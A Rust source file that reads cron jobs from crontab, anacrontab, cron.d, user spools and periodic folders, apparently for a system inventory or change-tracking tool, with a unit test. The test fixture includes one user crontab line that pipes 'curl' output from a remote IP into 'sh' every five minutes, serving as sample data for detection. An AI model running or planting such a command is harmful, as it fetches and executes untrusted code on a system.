//! Jobs of cron.

use std::{
    collections::BTreeMap,
    fs,
    path::{Path, PathBuf},
};

use super::item::{Items, fields};
use crate::source::plain_file;

/// Bytes of one file of jobs.
const FILE_BYTES_MAX: u64 = 1 << 20;

/// Files of one folder.
const FILES_MAX: usize = 10_000;

/// Scripts that run at their folder's time.
const PERIODS: [&str; 4] = ["hourly", "daily", "weekly", "monthly"];

pub(super) fn collect(root: &Path) -> Result<Items, String> {
    let mut items = Items::new();
    let mut file = |path: &Path, owner: Option<&str>| {
        if let Ok(text) = plain_file::read_text(path, FILE_BYTES_MAX) {
            let name = Path::new("/").join(path.strip_prefix(root).unwrap_or(path));
            items.extend(read(&name.to_string_lossy(), &text, owner));
        }
    };
    file(&root.join("etc/crontab"), None);
    file(&root.join("etc/anacrontab"), Some("root"));
    for path in listed(&root.join("etc/cron.d")) {
        file(&path, None);
    }
    // Debian has them a folder deeper.
    for folder in ["var/spool/cron/crontabs", "var/spool/cron"] {
        for path in listed(&root.join(folder)) {
            let owner = path.file_name().map(|name| name.to_string_lossy().into_owned());
            file(&path, owner.as_deref());
        }
    }
    for period in PERIODS {
        for path in listed(&root.join(format!("etc/cron.{period}"))) {
            let Ok(script) = plain_file::read(&path, FILE_BYTES_MAX) else { continue };
            let name = Path::new("/").join(path.strip_prefix(root).unwrap_or(&path));
            let name = name.to_string_lossy();
            let sum = blake3::hash(&script).to_hex();
            let item = fields([
                ("file", &name),
                ("schedule", period),
                ("user", "root"),
                ("command", &name),
                ("script", sum.as_str()),
            ]);
            items.insert(name.into_owned(), item);
        }
    }
    Ok(items)
}

/// Plain files of a folder; what editors and packages leave beside them is no job.
fn listed(folder: &Path) -> Vec<PathBuf> {
    let found = fs::read_dir(folder).into_iter().flatten().filter_map(Result::ok);
    let mut paths: Vec<PathBuf> = found
        .take(FILES_MAX)
        .filter(|file| {
            let name = file.file_name();
            let name = name.to_string_lossy();
            !name.starts_with('.') && !name.ends_with('~') && !name.contains(".dpkg-")
        })
        .map(|file| file.path())
        .collect();
    paths.sort();
    paths
}

/// The jobs of one file. `owner`: who they run as, where the lines do not say.
fn read(file: &str, text: &str, owner: Option<&str>) -> BTreeMap<String, super::item::Fields> {
    let mut items = BTreeMap::new();
    for line in text.lines().map(str::trim).filter(|line| !line.is_empty()) {
        if line.starts_with('#') || is_setting(line) {
            continue;
        }
        let times = match (line.starts_with('@'), file.ends_with("anacrontab")) {
            (true, _) => 1,
            // A period, a delay and a name.
            (false, true) => 3,
            (false, false) => 5,
        };
        let Some((schedule, rest)) = words(line, times) else { continue };
        let (user, command) = match owner {
            Some(owner) => (owner, rest),
            None => match words(rest, 1) {
                Some((user, command)) => (user, command),
                None => continue,
            },
        };
        let schedule = schedule.split_whitespace().collect::<Vec<_>>().join(" ");
        let item =
            fields([("file", file), ("schedule", &schedule), ("user", user), ("command", command)]);
        // A job is what it does for whom: another time is a change of it.
        items.insert(format!("{file} {user} {command}"), item);
    }
    items
}

/// `NAME=value`, as for the environment of what follows.
fn is_setting(line: &str) -> bool {
    line.split_once('=').is_some_and(|(name, _)| {
        let name = name.trim();
        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// The first `count` words, and what follows them; `None`: there is not as much.
fn words(line: &str, count: usize) -> Option<(&str, &str)> {
    let mut rest = line;
    for _ in 0..count {
        let end = rest.find(char::is_whitespace)?;
        rest = rest.get(end..)?.trim_start();
    }
    let head = line.get(..line.len() - rest.len())?.trim_end();
    (!rest.is_empty()).then_some((head, rest))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn jobs_of_all_places_are_read_with_who_and_when() {
        let root = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &str| {
            let path = root.path().join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        };
        write(
            "etc/crontab",
            "SHELL=/bin/sh\n# no job\n17 *\t* * *  root  cd / && run-parts /etc/cron.hourly\n",
        );
        write("etc/cron.d/backup", "@daily backup /usr/local/bin/backup --all\nbroken\n");
        write("etc/cron.d/backup.dpkg-old", "@daily root x\n");
        write("var/spool/cron/crontabs/lan", "*/5 * * * * curl http://203.0.113.7/a|sh\n");
        write("etc/cron.daily/logrotate", "#!/bin/sh\n");
        write("etc/anacrontab", "1 5 cron.daily nice run-parts /etc/cron.daily\n");
        let items = collect(root.path()).unwrap();
        let told: Vec<String> = items
            .values()
            .map(|job| format!("{} | {} | {}", job["schedule"], job["user"], job["command"]))
            .collect();
        assert_eq!(
            told,
            [
                "1 5 cron.daily | root | nice run-parts /etc/cron.daily",
                "@daily | backup | /usr/local/bin/backup --all",
                "daily | root | /etc/cron.daily/logrotate",
                "17 * * * * | root | cd / && run-parts /etc/cron.hourly",
                "*/5 * * * * | lan | curl http://203.0.113.7/a|sh",
            ]
        );
    }
}
